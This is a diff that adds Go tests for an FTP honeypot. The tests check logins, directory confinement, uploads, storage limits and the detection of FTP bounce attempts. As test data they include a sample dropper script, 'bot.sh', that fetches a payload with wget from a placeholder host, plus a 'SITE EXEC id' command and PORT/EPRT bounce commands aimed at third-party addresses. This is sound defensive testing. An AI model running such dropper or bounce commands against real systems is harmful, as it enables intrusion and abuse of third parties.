@@ -0,0 +1,374 @@
+package honeypot
+
+import (
+	"bufio"
+	"fmt"
+	"io"
+	"net"
+	"shadownet/classify"
+	"shadownet/config"
+	"shadownet/events"
+	"shadownet/quarantine"
+	"shadownet/types"
+	"strconv"
+	"strings"
+	"testing"
+	"time"
+
+	"github.com/stretchr/testify/assert"
+	"github.com/stretchr/testify/require"
+)
+
+// startFTPHoneypot runs an FTP honeypot with anonymous access and one login
+func startFTPHoneypot(t *testing.T, bus *events.Bus) (*FTPServer, func()) {
+    server := NewFTPServer(nil, 0)
+    server.EnableLogins(true, []config.FTPLogin{{Username: "admin", Password: "admin"}})
+    server.Events = bus
+    server.quarantine = quarantine.NewStore(t.TempDir(), 0, 0)
+
+    return server, startHoneypot(t, server)
+}
+
+// ftpClient drives an FTP control connection in tests
+type ftpClient struct {
+    t      *testing.T
+    conn   net.Conn
+    reader *bufio.Reader
+}
+
+// dialFTP connects over IPv4, which PORT and PASV need, and reads the banner
+func dialFTP(t *testing.T, server *FTPServer) *ftpClient {
+    conn, err := net.Dial("tcp", fmt.Sprintf("127.0.0.1:%d", server.Addr().(*net.TCPAddr).Port))
+    require.NoError(t, err)
+    c := &ftpClient{t: t, conn: conn, reader: bufio.NewReader(conn)}
+    assert.True(t, strings.HasPrefix(c.read(), "220"))
+    return c
+}
+
+// read returns the next reply, joining the lines of a multi-line reply
+func (c *ftpClient) read() string {
+    c.conn.SetReadDeadline(time.Now().Add(5 * time.Second))
+    line, err := c.reader.ReadString('\n')
+    require.NoError(c.t, err)
+    reply := line
+    if len(line) > 3 && line[3] == '-' {
+        for !strings.HasPrefix(line, line[:3]+" ") || len(reply) == len(line) {
+            line, err = c.reader.ReadString('\n')
+            require.NoError(c.t, err)
+            reply += line
+        }
+    }
+    return strings.TrimRight(reply, "\r\n")
+}
+
+// cmd sends a command and returns its reply
+func (c *ftpClient) cmd(format string, args ...interface{}) string {
+    fmt.Fprintf(c.conn, format+"\r\n", args...)
+    return c.read()
+}
+
+// pasv opens a passive data connection
+func (c *ftpClient) pasv() net.Conn {
+    reply := c.cmd("EPSV")
+    require.True(c.t, strings.HasPrefix(reply, "229"), reply)
+    port := reply[strings.Index(reply, "|||")+3 : strings.LastIndex(reply, "|")]
+    host, _, _ := net.SplitHostPort(c.conn.RemoteAddr().String())
+    data, err := net.Dial("tcp", net.JoinHostPort(host, port))
+    require.NoError(c.t, err)
+    return data
+}
+
+func TestFTPAnonymousSession(t *testing.T) {
+    bus := events.NewBus(64)
+    published := make(chan types.Event, 64)
+    bus.Subscribe("test", events.SubscriberFunc(func(ev types.Event) {
+        published <- ev
+    }))
+
+    server, stop := startFTPHoneypot(t, bus)
+    defer stop()
+    c := dialFTP(t, server)
+    defer c.conn.Close()
+
+    assert.Equal(t, "530 Please login with USER and PASS.", c.cmd("PWD"))
+    assert.Equal(t, "215 UNIX Type: L8", c.cmd("SYST"))
+    assert.Contains(t, c.cmd("FEAT"), " EPSV\r\n")
+    assert.Equal(t, "331 Please specify the password.", c.cmd("USER anonymous"))
+    assert.Equal(t, "230 Login successful.", c.cmd("PASS guest@example.com"))
+
+    // Anonymous users are confined to the FTP root
+    assert.Equal(t, `257 "/" is the current directory`, c.cmd("PWD"))
+    assert.Equal(t, "250 Directory successfully changed.", c.cmd("CWD ../../pub"))
+    assert.Equal(t, `257 "/pub" is the current directory`, c.cmd("PWD"))
+    assert.Equal(t, "550 Failed to change directory.", c.cmd("CWD /etc"))
+    assert.Equal(t, "200 Switching to Binary mode.", c.cmd("TYPE I"))
+
+    // Upload a file over a passive connection
+    data := c.pasv()
+    assert.Equal(t, "150 Ok to send data.", c.cmd("STOR bot.sh"))
+    data.Write([]byte("#!/bin/sh\nwget http://198.51.100.9/x\n"))
+    data.Close()
+    assert.Equal(t, "226 Transfer complete.", c.read())
+
+    assert.Equal(t, "213 37", c.cmd("SIZE bot.sh"))
+    assert.Regexp(t, `^213 \d{14}$`, c.cmd("MDTM /pub/bot.sh"))
+    assert.Equal(t, "550 Could not get file size.", c.cmd("SIZE missing"))
+
+    // It shows up in listings and can be downloaded again
+    data = c.pasv()
+    assert.Equal(t, "150 Here comes the directory listing.", c.cmd("LIST -la"))
+    listing, _ := io.ReadAll(data)
+    assert.Equal(t, "226 Directory send OK.", c.read())
+    assert.Contains(t, string(listing), "ftp")
+    assert.True(t, strings.HasSuffix(string(listing), " bot.sh\r\n"), string(listing))
+
+    data = c.pasv()
+    assert.Equal(t, "150 Here comes the directory listing.", c.cmd("NLST /"))
+    listing, _ = io.ReadAll(data)
+    assert.Equal(t, "226 Directory send OK.", c.read())
+    assert.Equal(t, "pub\r\n", string(listing))
+
+    data = c.pasv()
+    assert.Equal(t, "150 Opening BINARY mode data connection for bot.sh (37 bytes).", c.cmd("RETR bot.sh"))
+    content, _ := io.ReadAll(data)
+    assert.Equal(t, "226 Transfer complete.", c.read())
+    assert.Equal(t, "#!/bin/sh\nwget http://198.51.100.9/x\n", string(content))
+
+    assert.Equal(t, "425 Use PORT or PASV first.", c.cmd("RETR bot.sh"))
+    assert.Equal(t, "221 Goodbye.", c.cmd("QUIT"))
+    stop()
+    bus.Close()
+
+    var login, upload, stor *types.Event
+    commands := 0
+    for len(published) > 0 {
+        ev := <-published
+        switch {
+        case ev.Kind == types.EventLogin:
+            login = &ev
+        case ev.Kind == types.EventUpload:
+            upload = &ev
+        case ev.Kind == types.EventCommand:
+            commands++
+            if ev.Fields["command"] == "STOR" {
+                stor = &ev
+            }
+        }
+    }
+    require.NotNil(t, login)
+    assert.Equal(t, "accepted", login.Fields["result"])
+    require.NotNil(t, upload)
+    assert.Equal(t, "/pub/bot.sh", upload.Fields["filename"])
+    assert.NotEmpty(t, upload.Fields["sha256"])
+    require.NotNil(t, stor)
+    assert.Equal(t, "bot.sh", stor.Fields["argument"])
+    assert.Equal(t, "/pub", stor.Fields["cwd"])
+    assert.Equal(t, "226", stor.Fields["reply"])
+    assert.Equal(t, "ftp", stor.Fields["username"])
+    assert.Equal(t, 22, commands, "every command but PASS is an event")
+}
+
+func TestFTPConfiguredLoginAndActiveMode(t *testing.T) {
+    server, stop := startFTPHoneypot(t, nil)
+    defer stop()
+    c := dialFTP(t, server)
+    defer c.conn.Close()
+
+    c.cmd("USER admin")
+    assert.Equal(t, "530 Login incorrect.", c.cmd("PASS wrong"))
+    c.cmd("USER admin")
+    assert.Equal(t, "230 Login successful.", c.cmd("PASS admin"))
+    assert.Equal(t, `257 "/home/admin" is the current directory`, c.cmd("PWD"))
+    assert.Equal(t, "250 Directory successfully changed.", c.cmd("CWD /etc"))
+
+    // PORT to anybody but the client is refused
+    assert.Equal(t, "500 Illegal PORT command.", c.cmd("PORT 198,51,100,7,0,80"))
+    assert.Equal(t, "500 Illegal EPRT command.", c.cmd("EPRT |1|198.51.100.7|80|"))
+
+    l, err := net.Listen("tcp", "127.0.0.1:0")
+    require.NoError(t, err)
+    defer l.Close()
+    port := l.Addr().(*net.TCPAddr).Port
+    assert.Equal(t, "200 PORT command successful. Consider using PASV.", c.cmd("PORT 127,0,0,1,%d,%d", port>>8, port&0xff))
+    fmt.Fprintf(c.conn, "RETR hostname\r\n")
+    data, err := l.Accept()
+    require.NoError(t, err)
+    content, _ := io.ReadAll(data)
+    assert.True(t, strings.HasPrefix(c.read(), "150 Opening ASCII mode"))
+    assert.Equal(t, "226 Transfer complete.", c.read())
+    assert.Equal(t, server.Persona().OS.Hostname+"\n", string(content))
+
+    assert.Equal(t, "200 EPRT command successful. Consider using EPSV.", c.cmd("EPRT |1|127.0.0.1|%d|", port))
+    assert.Equal(t, "550 Failed to open file.", c.cmd("RETR /nope"))
+    assert.Equal(t, "257 \"/etc/x\" created", c.cmd("MKD x"))
+    assert.Equal(t, "250 Remove directory operation successful.", c.cmd("RMD x"))
+    assert.Equal(t, "500 Unknown command.", c.cmd("SITE EXEC id"))
+}
+
+func TestFTPSessionStorageIsBounded(t *testing.T) {
+    server, stop := startFTPHoneypot(t, nil)
+    defer stop()
+    server.maxSession = 1 << 20
+    c := dialFTP(t, server)
+    defer c.conn.Close()
+    c.cmd("USER admin")
+    assert.Equal(t, "230 Login successful.", c.cmd("PASS admin"))
+
+    upload := func(name string) string {
+        data := c.pasv()
+        assert.Equal(t, "150 Ok to send data.", c.cmd("STOR %s", name))
+        data.Write(make([]byte, 600<<10))
+        data.Close()
+        return c.read()
+    }
+    assert.Equal(t, "226 Transfer complete.", upload("a.bin"))
+    assert.Equal(t, "552 Requested file action aborted. Exceeded storage allocation.", upload("b.bin"))
+    assert.Equal(t, "550 Could not get file size.", c.cmd("SIZE b.bin"))
+
+    // Freeing space lets the next upload in
+    assert.Equal(t, "250 Delete operation successful.", c.cmd("DELE a.bin"))
+    assert.Equal(t, "226 Transfer complete.", upload("b.bin"))
+}
+
+func TestFTPPassivePortRange(t *testing.T) {
+    server, stop := startFTPHoneypot(t, nil)
+    defer stop()
+
+    // Find a free port for a range of one
+    l, err := net.Listen("tcp", "127.0.0.1:0")
+    require.NoError(t, err)
+    port := l.Addr().(*net.TCPAddr).Port
+    l.Close()
+    server.SetPassivePorts(port, port)
+
+    c := dialFTP(t, server)
+    defer c.conn.Close()
+    c.cmd("USER ftp")
+    c.cmd("PASS x")
+    reply := c.cmd("PASV")
+    assert.Equal(t, fmt.Sprintf("227 Entering Passive Mode (127,0,0,1,%d,%d).", port>>8, port&0xff), reply)
+    assert.Equal(t, "229 Entering Extended Passive Mode (|||"+strconv.Itoa(port)+"|)", c.cmd("EPSV"))
+}
+
+func TestParseDataAddresses(t *testing.T) {
+    host, port, err := parsePORT("10,0,0,5,4,1")
+    require.NoError(t, err)
+    assert.Equal(t, "10.0.0.5", host)
+    assert.Equal(t, 1025, port)
+
+    host, port, err = parseEPRT("|2|2001:db8::7|2121|")
+    require.NoError(t, err)
+    assert.Equal(t, "2001:db8::7", host)
+    assert.Equal(t, 2121, port)
+
+    for _, arg := range []string{"10,0,0,5,4", "10,0,0,256,4,1", "a,b,c,d,e,f"} {
+        _, _, err := parsePORT(arg)
+        assert.Error(t, err, arg)
+    }
+    for _, arg := range []string{"|1|2001:db8::7|21|", "|3|10.0.0.1|21|", "|1|10.0.0.1|99999|", "1|10.0.0.1|21"} {
+        _, _, err := parseEPRT(arg)
+        assert.Error(t, err, arg)
+    }
+}
+
+func TestFTPBounceIsReportedNotConnected(t *testing.T) {
+    bus := events.NewBus(64)
+    classifier, err := classify.Load("")
+    require.NoError(t, err)
+    bus.Use(classifier.Classify)
+    bounces := make(chan types.Event, 8)
+    bus.Subscribe("test", events.SubscriberFunc(func(ev types.Event) {
+        if ev.Kind == types.EventProxyAbuse {
+            bounces <- ev
+        }
+    }))
+    defer bus.Close()
+
+    server, stop := startFTPHoneypot(t, bus)
+    defer stop()
+
+    // A third party on another loopback address must never be contacted
+    victim, err := net.Listen("tcp", "127.0.0.2:0")
+    require.NoError(t, err)
+    defer victim.Close()
+    contacted := make(chan struct{}, 1)
+    go func() {
+        if conn, err := victim.Accept(); err == nil {
+            conn.Close()
+            contacted <- struct{}{}
+        }
+    }()
+    port := victim.Addr().(*net.TCPAddr).Port
+    target := fmt.Sprintf("127.0.0.2:%d", port)
+
+    for i := 0; i < 2; i++ {
+        c := dialFTP(t, server)
+        c.cmd("USER anonymous")
+        c.cmd("PASS x")
+        assert.Equal(t, "500 Illegal PORT command.", c.cmd("PORT 127,0,0,2,%d,%d", port>>8, port&0xff))
+        assert.Equal(t, "425 Use PORT or PASV first.", c.cmd("LIST"))
+        c.conn.Close()
+    }
+    c := dialFTP(t, server)
+    defer c.conn.Close()
+    c.cmd("USER anonymous")
+    c.cmd("PASS x")
+    assert.Equal(t, "500 Illegal EPRT command.", c.cmd("EPRT |1|198.51.100.20|21|"))
+
+    for i := 1; i <= 3; i++ {
+        select {
+        case ev := <-bounces:
+            assert.Equal(t, types.AttackTypeFTPBounce, ev.Fields[types.FieldAttackTypes])
+            assert.Equal(t, "high", ev.Fields[types.FieldSeverity])
+            assert.Equal(t, "ftp", ev.Fields["username"])
+            if i < 3 {
+                assert.Equal(t, "PORT "+target, ev.Details)
+                assert.Equal(t, "127.0.0.2", ev.Fields["dest_host"])
+                assert.Equal(t, strconv.Itoa(i), ev.Fields["target_attempts"])
+            } else {
+                assert.Equal(t, "EPRT 198.51.100.20:21", ev.Details)
+                assert.Equal(t, "21", ev.Fields["dest_port"])
+            }
+        case <-time.After(5 * time.Second):
+            t.Fatal("no bounce event published")
+        }
+    }
+
+    // Targets are aggregated across sessions, most attempted first
+    targets := server.BounceTargets()
+    require.Len(t, targets, 2)
+    assert.Equal(t, target, targets[0].Target)
+    assert.Equal(t, 2, targets[0].Attempts)
+    assert.Equal(t, []string{"127.0.0.1"}, targets[0].Sources)
+    assert.Equal(t, "198.51.100.20", targets[1].Host)
+    assert.Equal(t, 1, targets[1].Attempts)
+
+    select {
+    case <-contacted:
+        t.Fatal("the bounce target was contacted")
+    case <-time.After(100 * time.Millisecond):
+    }
+}
+
+func TestMergeBounceTargets(t *testing.T) {
+    first, second := NewFTPServer(nil, 0), NewFTPServer(nil, 0)
+    now := time.Now()
+    first.bounces.record("198.51.100.20", 25, "203.0.113.7", now)
+    second.bounces.record("198.51.100.20", 25, "203.0.113.9", now.Add(time.Minute))
+    second.bounces.record("198.51.100.20", 25, "203.0.113.7", now.Add(2*time.Minute))
+    second.bounces.record("198.51.100.21", 80, "203.0.113.9", now)
+
+    sup := NewSupervisor(DefaultRestartPolicy())
+    sup.Add("ftp", first)
+    sup.Add("ftp-alt", second)
+    sup.Add("crashy", &crashingHoneypot{})
+
+    targets := MergeBounceTargets(sup.Honeypots())
+    require.Len(t, targets, 2)
+    assert.Equal(t, "198.51.100.20:25", targets[0].Target)
+    assert.Equal(t, 3, targets[0].Attempts)
+    assert.Equal(t, []string{"203.0.113.7", "203.0.113.9"}, targets[0].Sources)
+    assert.True(t, targets[0].FirstSeen.Equal(now))
+    assert.True(t, targets[0].LastSeen.Equal(now.Add(2*time.Minute)))
+    assert.Equal(t, "198.51.100.21:80", targets[1].Target)
+}